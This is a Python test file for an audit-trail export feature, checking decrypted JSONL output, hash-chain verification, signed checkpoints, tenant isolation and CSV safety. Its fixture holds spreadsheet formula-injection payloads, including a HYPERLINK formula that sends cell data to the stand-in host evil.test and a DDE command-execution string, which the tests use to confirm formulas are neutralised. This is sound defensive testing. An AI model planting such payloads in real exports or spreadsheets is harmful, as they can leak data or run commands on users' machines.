"""Export: the whole trail, decrypted, streamed, anchored by a checkpoint, safe in a spreadsheet."""

import csv
import io
import json
import uuid
from typing import Any

from store.audit.export import CSV_COLUMNS, export_trail
from store.entities import BY_NAME
from store.models import metadata
from store.runtime import Store
from store.services import records
from tests import conftest
from tests.conftest import MakeWorkspace
from tests.store.audit.helpers import ACTOR, events, superuser

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.test/?x="&A1,"open")',
    "last_name": "+cmd|' /C calc'!A0",
    "title": "-2+3",
    "notes": "@SUM(1,2)",
}


async def _export(store: Store, tenant: uuid.UUID, fmt: str) -> list[str]:
    return [line async for line in export_trail(store, tenant, fmt=fmt)]  # type: ignore[arg-type]


async def _busy_workspace(store: Store, make_workspace: MakeWorkspace) -> tuple[uuid.UUID, Any]:
    tenant = await make_workspace()
    async with store.tenant_session(tenant, ACTOR, via="ui") as ts:
        contact = await records.create_record(ts, BY_NAME["contact"], HOSTILE)
        await records.update_record(ts, BY_NAME["contact"], contact.id, {"title": "CTO"})  # type: ignore[attr-defined]
        company = await records.create_record(ts, BY_NAME["company"], {"name": "Acme"})
        await records.delete_record(ts, BY_NAME["company"], company.id)  # type: ignore[attr-defined]
    return tenant, contact


def _still_sealed(event: dict[str, Any]) -> list[str]:
    """Sealed columns of the event that still hold ciphertext."""
    table = metadata.tables[event["table_name"]]
    sealed = [c.name for c in table.columns if c.info.get("sealed")]
    return [
        f"{event['table_name']}.{name}"
        for image in (event["before"], event["after"])
        for name in sealed
        if isinstance((image or {}).get(name), str) and image[name].startswith("\\x")
    ]


async def test_jsonl_export_holds_every_event_decrypted_and_a_checkpoint(
    store: Store, make_workspace: MakeWorkspace, test_db: conftest.TestDatabase
) -> None:
    tenant, contact = await _busy_workspace(store, make_workspace)
    other, _ = await _busy_workspace(store, make_workspace)
    stored = events(test_db, tenant)

    lines = await _export(store, tenant, "jsonl")
    documents = [json.loads(line) for line in lines]
    exported = [d for d in documents if d["type"] == "event"]
    verification, trailer = documents[-2:]

    assert (
        [e["seq"] for e in exported]
        == [e["seq"] for e in stored]
        == list(range(1, len(stored) + 1))
    )
    assert [e["hash"] for e in exported] == [bytes(e["hash"]).hex() for e in stored]
    assert {e["record_id"] for e in exported} <= {str(e["record_id"]) for e in stored}
    assert not {str(e["record_id"]) for e in events(test_db, other)} & {
        e["record_id"] for e in exported
    }, "another workspace's events leaked into the export"
    assert [name for e in exported for name in _still_sealed(e)] == []

    (inserted,) = [
        e
        for e in exported
        if e["record_id"] == str(contact.id)
        and e["table_name"] == "contacts"
        and e["action"] == "insert"
    ]
    assert {k: inserted["after"][k] for k in HOSTILE} == HOSTILE
    (changed,) = [
        e
        for e in exported
        if e["record_id"] == str(contact.id)
        and e["table_name"] == "contacts"
        and e["action"] == "update"
    ]
    assert (changed["before"]["title"], changed["after"]["title"]) == (HOSTILE["title"], "CTO")

    assert verification == {
        "type": "verification",
        "ok": True,
        "events": len(stored),
        "first_bad_seq": None,
        "reason": None,
    }
    assert trailer["type"] == "checkpoint" and trailer["seq"] == len(stored)
    assert trailer["hash"] == exported[-1]["hash"]
    with superuser(test_db) as conn:
        row = conn.execute(
            "SELECT seq, signature FROM audit_checkpoints WHERE tenant_id = %s ORDER BY seq DESC",
            (tenant,),
        ).fetchone()
    assert row is not None and (row["seq"], bytes(row["signature"]).hex()) == (
        trailer["seq"],
        trailer["signature"],
    )


async def test_csv_export_has_a_row_per_changed_field_and_neutralises_formulas(
    store: Store, make_workspace: MakeWorkspace, test_db: conftest.TestDatabase
) -> None:
    tenant, contact = await _busy_workspace(store, make_workspace)
    text = "".join(await _export(store, tenant, "csv"))
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert tuple(header) == CSV_COLUMNS
    table = [dict(zip(header, row, strict=True)) for row in body]

    assert {int(r["seq"]) for r in table} == {e["seq"] for e in events(test_db, tenant)}
    dangerous = [c for row in body for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []

    contact_fields = {
        r["field"]: r["after"]
        for r in table
        if r["record_id"] == str(contact.id)
        and r["table_name"] == "contacts"
        and r["action"] == "insert"
    }
    for name, value in HOSTILE.items():
        assert contact_fields[name] == "'" + value
    (title_change,) = [
        r
        for r in table
        if r["record_id"] == str(contact.id)
        and r["table_name"] == "contacts"
        and r["action"] == "update"
        and r["field"] == "title"
    ]
    assert (title_change["before"], title_change["after"]) == ("'" + HOSTILE["title"], "CTO")
    # An update lists only what changed: the title, and the version and time it bumped.
    changed = {
        r["field"]
        for r in table
        if r["record_id"] == str(contact.id)
        and r["table_name"] == "contacts"
        and r["action"] == "update"
    }
    assert changed == {"title", "version", "updated_at"}


async def test_export_verifies_the_whole_chain_and_signs_only_a_sound_one(
    store: Store, make_workspace: MakeWorkspace, test_db: conftest.TestDatabase
) -> None:
    """Tampering before the newest checkpoint is invisible to an incremental check, but not to
    an export, which reads (and so verifies) every event."""
    tenant, _ = await _busy_workspace(store, make_workspace)
    await _export(store, tenant, "jsonl")
    with superuser(test_db, replica=True) as conn:
        conn.execute(
            "UPDATE audit_events SET via = 'api' WHERE tenant_id = %s AND seq = 4", (tenant,)
        )
    outcome: list[Any] = []
    lines = [
        line
        async for line in export_trail(
            store, tenant, on_done=lambda result, checkpoint: outcome.append((result, checkpoint))
        )
    ]
    trailer = json.loads(lines[-1])
    assert (trailer["type"], trailer["ok"], trailer["first_bad_seq"]) == ("verification", False, 4)
    ((result, checkpoint),) = outcome
    assert (result.first_bad_seq, checkpoint) == (4, None)
    assert sum(1 for line in lines if json.loads(line)["type"] == "event") == len(
        events(test_db, tenant)
    ), "the export still carries every event for the investigation"
